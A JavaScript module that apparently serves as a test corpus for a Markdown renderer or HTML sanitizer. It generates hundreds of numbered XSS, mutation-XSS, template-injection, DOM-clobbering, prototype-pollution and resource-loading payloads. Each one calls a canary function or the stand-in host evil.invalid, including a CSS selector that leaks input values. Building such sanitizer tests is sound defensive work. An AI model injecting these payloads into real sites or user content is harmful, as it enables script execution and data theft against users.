// Texts that want to be code. Each is a pure text; what it would run is `hit(N)` with its own number, what it would fetch is below
// `https://evil.invalid/`. They are made by combining carriers with spellings, so that a new carrier is tried with all of them.

export const kForeignOrigin = 'https://evil.invalid';

/** Ways to spell a script address; a browser takes most of them for one, each filter has missed some. */
const spellings = (js) => [
  `javascript:${js}`, `JaVaScRiPt:${js}`, `  javascript:${js}`, `java\tscript:${js}`, `java&#9;script:${js}`, `java&Tab;script:${js}`, `java&NewLine;script:${js}`,
  `&#106;avascript:${js}`, `&#x6A;avascript:${js}`, `&#0000106avascript:${js}`, `javascript&colon;${js}`, `javascript&#58;${js}`, `\u0001javascript:${js}`,
  `javascript://example.org/%0A${js}`, `javascript:/*--></title></style></textarea></script>*/${js}`, `vbscript:${js}`, `livescript:${js}`, `mocha:${js}`,
  `data:text/html,<script>top.${js}</script>`, `data:text/html;base64,${Buffer.from(`<script>top.${js}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.${js}"/>`, `view-source:javascript:${js}`, `feed:javascript:${js}`, `blob:null/${js}`,
  `jav\u200Bascript:${js}`, `javascript\uFF1A${js}`, `%6A%61%76%61%73%63%72%69%70%74:${js}`,
];

/** Places where an address can stand. */
const addressCarriers = [
  (url) => `[a link](${url})`, (url) => `[a link](<${url}>)`, (url) => `[a link](${url} "onmouseover=x")`, (url) => `[a link][r]\n\n[r]: ${url}`, (url) => `[a link][r]\n\n[r]: <${url}>`,
  (url) => `<${url}>`, (url) => `![a picture](${url})`, (url) => `[![nested](${url})](${url})`, (url) => `<a href="${url}">html</a>`, (url) => `<svg><a xlink:href="${url}"><text y=9>svg</text></a></svg>`,
  (url) => `<math><a xlink:href="${url}" href="${url}">math</a></math>`, (url) => `<iframe src="${url}"></iframe>`,
];

/** Elements whose handlers run without anybody's doing, or with little. */
const handlers = [
  ['img src=x', 'onerror'], ['img srcset=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'], ['details open', 'ontoggle'], ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['video><source', 'onerror'], ['marquee', 'onstart'],
  ['object data=x', 'onerror'], ['iframe', 'onload'], ['embed src=/favicon.svg', 'onload'], ['link rel=stylesheet href=x', 'onerror'], ['style', 'onload'], ['script src=x', 'onerror'],
  ['div tabindex=1 autofocus contenteditable', 'onfocus'], ['p style="animation:spin 1s"', 'onanimationstart'], ['a href=x', 'onmouseover'], ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onbegin'], ['math', 'onmouseover'], ['frameset', 'onload'], ['table background=x', 'onload'], ['isindex type=image src=x', 'onerror'],
  ['image src=x', 'onerror'], ['picture><img src=x', 'onerror'], ['button popovertarget=p>x</button><p popover id=p', 'onbeforetoggle'], ['xss tabindex=1 autofocus', 'onfocus'],
];

/** Ways to write one of them down. */
const handlerForms = [
  ([tag, event], js) => `<${tag} ${event}="${js}">`,
  ([tag, event], js) => `<${tag.replaceAll(' ', '/')}/${event}=${js}>`,
  ([tag, event], js) => `"><${tag} ${event.toUpperCase()}='${js}'>`,
];

const scripts = (js) => [
  `<script>${js}</script>`, `<ScRiPt>${js}</sCrIpT>`, `<script\n>${js}</script\n>`, `<script>//<!--\n${js}\n//--></script>`, `<scr<script>ipt>${js}</scr</script>ipt>`, `</script><script>${js}</script>`,
  `<script src="data:text/javascript,${js}"></script>`, `<script src=${kForeignOrigin}/x.js></script>`, `<script type=module>${js}</script>`, `<svg><script>${js}</script></svg>`,
  `<svg><script href="data:,${js}"/></svg>`, `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.${js}&lt;/script&gt;"></iframe>`,
  `<template><script>${js}</script></template>`, `<template shadowrootmode=open><img src=x onerror=${js}></template>`, `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<object data="data:text/html,<script>top.${js}</script>"></object>`, `<embed src="data:text/html,<script>top.${js}</script>">`, `<base href="${kForeignOrigin}/"><script src=x.js></script>`,
  `\uFF1Cscript\uFF1E${js}\uFF1C/script\uFF1E`, `&lt;script&gt;${js}&lt;/script&gt;`, `&#60;script&#62;${js}&#60;/script&#62;`, `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${js}+ADw-/script+AD4-`, `%3Cscript%3E${js}%3C/script%3E`, `<\u200Bscript>${js}</script>`, `<script\u2028>${js}</script>`, `<!--><script>${js}</script-->`, `<![CDATA[><script>${js}</script>]]>`,
  `<?xml version="1.0"?><script>${js}</script>`, `<!DOCTYPE x [<!ENTITY e "<script>${js}</script>">]>&e;`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
];

/** What one parser takes for harmless and the next one does not. */
const mutations = (js) => [
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${js}>">`, `<math><mtext><table><mglyph><style><math><img src=x onerror=${js}></style>`,
  `<svg></p><style><a id="</style><img src=x onerror=${js}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  `<svg><style><img src=x onerror=${js}></style></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${js}</script>"></iframe></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${js}></desc></svg>`, `<svg><title><style><img src=x onerror=${js}></style></title></svg>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${js}'/></svg>#x"></use></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values="javascript:${js}"/><a id=x><text y=20>x</text></a></svg>`, `<table><td><title><table><img src=x onerror=${js}></title></table>`,
  `<select><template><img src=x onerror=${js}></template></select>`, `<textarea></textarea><img src=x onerror=${js}>`, `<xmp></xmp><img src=x onerror=${js}>`, `<plaintext/><img src=x onerror=${js}>`,
  `<img alt="\`><img src=x onerror=${js}>">`, `<img src="x\` \`<img src=x onerror=${js}>"\` \`>`, `<b <script>${js}</script>0`, `<a<img src=x onerror=${js}>`, `<div id="1\nonmouseover=${js}//">`,
];

/** What loads something, or leads away, without a word of script. */
const fetches = (url) => [
  `![](${url}/pixel?q=1)`, `![x](${url.slice(6)}/pixel)`, `![x][remote]\n\n[remote]: ${url}/reference`, `![x]( <${url}/angle> )`, `<img src="${url}/img">`, `<img srcset="${url}/set 2x">`,
  `<picture><source srcset="${url}/source"><img></picture>`, `<video poster="${url}/poster"></video>`, `<audio src="${url}/audio" autoplay></audio>`, `<input type=image src="${url}/input">`,
  `<link rel=stylesheet href="${url}/css">`, `<link rel=prefetch href="${url}/prefetch">`, `<link rel=preconnect href="${url}">`, `<link rel=dns-prefetch href="//evil.invalid">`, `<link rel=icon href="${url}/icon">`,
  `<link rel=manifest href="${url}/manifest">`, `<style>@import "${url}/import";</style>`, `<style>body{background:url(${url}/background)}</style>`, `<p style="background:url(${url}/style)">x</p>`,
  `<p style="list-style-image:url(${url}/list)">x</p>`, `<style>input[value^=a]{background:url(${url}/leak)}</style>`, `<style>@font-face{font-family:x;src:url(${url}/font)}*{font-family:x}</style>`,
  `<meta http-equiv=refresh content="0;url=${url}/">`, `<meta http-equiv="refresh" content="0; ${url}/">`, `<meta http-equiv=Set-Cookie content="confab_session=x">`, `<base href="${url}/">`, `<base target=_top>`,
  `<form action="${url}/form"><input name=q value=x><button autofocus>x</button></form>`, `<form><button formaction="${url}/button">x</button></form>`, `<iframe src="${url}/frame"></iframe>`,
  `<object data="${url}/object"></object>`, `<embed src="${url}/embed">`, `<applet code=x codebase="${url}/"></applet>`, `<body background="${url}/body">`, `<table background="${url}/table"><td>x</table>`,
  `<svg><image href="${url}/image"/></svg>`, `<svg><use href="${url}/use#x"/></svg>`, `<svg><filter><feImage href="${url}/fe"/></filter></svg>`, `<a ping="${url}/ping" href="/">x</a>`, `<track src="${url}/track">`,
  `<html manifest="${url}/appcache">`, `<portal src="${url}/portal"></portal>`, `<fencedframe src="${url}/fenced"></fencedframe>`, `<script type=speculationrules>{"prefetch":[{"urls":["${url}/rules"]}]}</script>`,
];

/** The tricks of Markdown itself, and of what grows around it. */
const markdown = (js, url) => [
  `\`\`\`js" onmouseover="${js}\ncode\n\`\`\``, `\`\`\`"><img/src=x/onerror=${js}>\ncode\n\`\`\``, `\`\`\`html\n<script>${js}</script>\n\`\`\``, `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${js}>"]; click A href "javascript:${js}"\n\`\`\``,
  `\`\`\`svg\n<svg onload=${js}>\n\`\`\``, `\`\`\`__proto__\nx\n\`\`\``, `\`\`\`constructor\nx\n\`\`\``, `~~~'style='x:expression(${js})\nx\n~~~`, `\`<img src=x onerror=${js}>\``, `\`\`<script>${js}</script>\`\``,
  `$\\href{javascript:${js}}{x}$`, `$$\\url{javascript:${js}}$$`, `\\(\\htmlData{x=${js}}{y}\\)`, `$\\includegraphics{${url}/tex}$`, `$\\html@mathml{<img src=x onerror=${js}>}{x}$`, `$$\\unicode{<script>${js}</script>}$$`,
  `| a | b |\n|---|---|\n| <img src=x onerror=${js}> | [x](javascript:${js}) |`, `| <script>${js}</script> |\n|:--"onload="${js}:|\n| x |`, `# <img src=x onerror=${js}>`, `# x {onload=${js}}`, `x{:onmouseover="${js}"}`,
  `> <img src=x onerror=${js}>`, `- [ ] <img src=x onerror=${js}>`, `1. <svg onload=${js}>`, `[^1]: <img src=x onerror=${js}>\n\n[^1]`, `[x](https://example.org "\"onmouseover=${js}")`, `![x](https://example.org 'a' onerror=${js})`,
  `[x"onmouseover="${js}](https://example.org)`, `[<img src=x onerror=${js}>](https://example.org)`, `![<img src=x onerror=${js}>](x)`, `![x\](x)" onerror=${js}>](x)`, `https://example.org/"onmouseover="${js}`,
  `www.example.org/<script>${js}</script>`, `mailto:a@example.org"onmouseover="${js}`, `<https://example.org/"onmouseover=${js}>`, `[x](https://bank.example@evil.invalid/)`, `[x](\\\\evil.invalid/share)`, `[x](//evil.invalid)`,
  `<details open ontoggle=${js}><summary>x</summary></details>`, `**<b onmouseover=${js}>bold</b>**`, `~~<svg/onload=${js}>~~`, `\\<script>${js}\\</script>`, `:img[x]{src=x onerror=${js}}`, `@import url(${url}/md)`,
];

/** Frameworks' own languages; names that shadow the page's; what a careless merge would take for its own. */
const injections = (js, url) => [
  `{{constructor.constructor('${js}')()}}`, `\${${js}}`, `<%= ${js} %>`, `{@html "<img src=x onerror=${js}>"}`, `{#if ${js}}x{/if}`, `[[${js}]]`, `#{${js}}`, `*{${js}}`, `{%${js}%}`, `v-html="'<img src=x onerror=${js}>'"`,
  `<x ng-app>{{$on.constructor('${js}')()}}</x>`, `<div v-on:click="${js}">x</div>`, `<div x-data x-init="${js}">x</div>`, `<div data-bind="click:${js}">x</div>`, `<div hx-get="${url}/hx" hx-trigger=load>x</div>`,
  `<form id=clobbered name=clobbered><input name=attributes><input name=textContent></form>`, `<img name=clobbered><img name=getElementById>`, `<a id=clobbered href="${url}">x</a><a id=clobbered name=url href="javascript:${js}">x</a>`,
  `<iframe name=clobbered srcdoc="x"></iframe>`, `<object id=clobbered name=createElement></object>`, `<input id=clobbered name=cookie>`, `<form id=location><input name=href></form>`,
  `{"__proto__":{"polluted":"${js}"}}`, `{"constructor":{"prototype":{"polluted":1}}}`, `__proto__[polluted]=${js}`, `[__proto__]: ${url}/proto\n\n[__proto__]`, `[x][constructor]`, `[toString]: javascript:${js}\n\n[toString]`,
  `data: {"type":"response.completed"}\n\nevent: error\ndata: ${js}`, `]]>"'\`--><svg/onload=${js}>`, `';${js};//`, `";${js};//`, `</textarea><script>${js}</script>`, `</title><svg onload=${js}>`, `--!><img src=x onerror=${js}>`,
  `\u0000<img src=x onerror=${js}>`, `<img\u0000 src=x onerror=${js}>`, `<img\u000Csrc=x\u000Conerror=${js}>`, `<im\u00ADg src=x onerror=${js}>`, `\u202E<img src=x onerror=${js}>\u202C`, `\u2066\u202E${js}\u2069`, `\uFEFF<script>${js}</script>`,
  `<\u0130mg src=x onerror=${js}>`, `<img src=x one\u0280ror=${js}>`, `<a href="\u3000javascript:${js}">x</a>`, `<style>*{x:expression(${js});behavior:url(${url}/htc);-moz-binding:url(${url}/xbl)}</style>`,
];

/** Places of Markdown that have a parser of their own. */
const surroundings = [
  (text) => `> ${text}`, (text) => `- item\n  - ${text}`, (text) => `| head |\n|---|\n| ${text.replaceAll('|', '\\|')} |`, (text) => `## ${text}`, (text) => `**${text}**`, (text) => `[${text}](https://example.org/)`,
];

function combined() {
  const texts = [];
  const add = (make) => {
    const js = `hit(${texts.length})`;
    texts.push(make(js, `${kForeignOrigin}/${texts.length}`));
  };
  const each = (make) => {
    for (let i = 0; i < make('x', 'x').length; i += 1) add((js, url) => make(js, url)[i]);
  };
  for (const group of [scripts, mutations, markdown, injections]) each(group);
  each((_, url) => fetches(url.includes('://') ? url : `https://${url}`));
  handlers.forEach((handler, i) => handlerForms.forEach((form, j) => {
    // Each handler in one form, and the first ones in all.
    if (i < 6 || (i + j) % handlerForms.length === 0) add((js) => form(handler, js));
  }));
  addressCarriers.forEach((carry, i) => spellings('x').forEach((_, j) => {
    // Each spelling in a link, and every carrier with a share of the others.
    if (i === 0 || (i * 5 + j) % 3 === 0) add((js) => carry(spellings(js)[j]));
  }));
  for (const wrap of surroundings) for (const i of [0, 1]) add((js) => wrap([`<img src=x onerror=${js}>`, `[x](javascript:${js})`][i]));
  return texts;
}

/** Every text, with no line feed other than LF; the number in `hit(N)` is the text's place. */
export const kPayloads = combined();

/** The texts joined to as few as possible of at most `bytes` bytes each; a text that is longer by itself is left out. */
export function packed(bytes, separator = '\n\n', texts = kPayloads) {
  const packs = [];
  for (const text of texts) {
    const size = (joined) => Buffer.byteLength(joined);
    if (size(text) > bytes) continue;
    const grown = packs.length ? packs.at(-1) + separator + text : null;
    if (grown !== null && size(grown) <= bytes) packs[packs.length - 1] = grown;
    else packs.push(text);
  }
  return packs;
}
